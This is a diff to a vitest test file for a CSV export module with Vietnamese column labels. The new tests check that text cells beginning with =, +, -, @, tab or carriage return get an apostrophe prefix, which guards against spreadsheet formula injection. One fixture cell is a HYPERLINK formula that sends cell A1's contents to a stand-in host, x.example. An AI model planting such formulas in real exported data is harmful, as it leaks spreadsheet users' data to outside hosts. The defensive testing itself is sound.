@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { exportFileName, toCsv, type ExportTable } from '../../src/export/table'
+import { asSpreadsheetText, exportFileName, toCsv, type ExportTable } from '../../src/export/table'
 
 const table: ExportTable = {
   sheet: 'Xếp hạng',
@@ -27,6 +27,45 @@ describe('toCsv', () => {
       '"Xã ""Mới"", thử",,0,',
       '',
     ])
+  })
+})
+
+describe('CSV cells a spreadsheet would evaluate', () => {
+  const hostile: ExportTable = {
+    sheet: 'Chậm tiến độ',
+    title: 'Chậm tiến độ',
+    columns: [
+      { key: 'name', label: 'Đơn vị', kind: 'text' },
+      { key: 'change', label: 'Thay đổi', kind: 'points' },
+      { key: 'received', label: 'Tiếp nhận', kind: 'count' },
+    ],
+    rows: [
+      { name: '=HYPERLINK("http://x.example/?"&A1,"Xem")', change: -0.052, received: -3 },
+      { name: '+84 Xã Thử', change: 0.01, received: 7 },
+      { name: '-Xã Thử', change: null, received: 0 },
+      { name: '@SUM(A1:A9)', change: null, received: 0 },
+      { name: '\t=1+1', change: null, received: 0 },
+      { name: '\r=1+1', change: null, received: 0 },
+      { name: 'Xã Tân Quới - Tháp Mười', change: null, received: 0 },
+    ],
+  }
+
+  it('start with an apostrophe when they are text beginning with = + - @ tab or CR; negative numbers stay numbers', () => {
+    const lines = toCsv(hostile).slice(1).split('\r\n')
+    expect(lines.slice(1, -1)).toEqual([
+      '"\'=HYPERLINK(""http://x.example/?""&A1,""Xem"")",-5.2,-3',
+      "'+84 Xã Thử,1,7",
+      "'-Xã Thử,,0",
+      "'@SUM(A1:A9),,0",
+      "'\t=1+1,,0",
+      '"\'\r=1+1",,0',
+      'Xã Tân Quới - Tháp Mười,,0',
+    ])
+  })
+
+  it('the rule itself: only the first character counts', () => {
+    expect(['=1', '+1', '-1', '@1', '\t1', '\r1', '1-1', 'Xã =1', ''].map(asSpreadsheetText))
+      .toEqual(["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1", '1-1', 'Xã =1', ''])
   })
 })
 
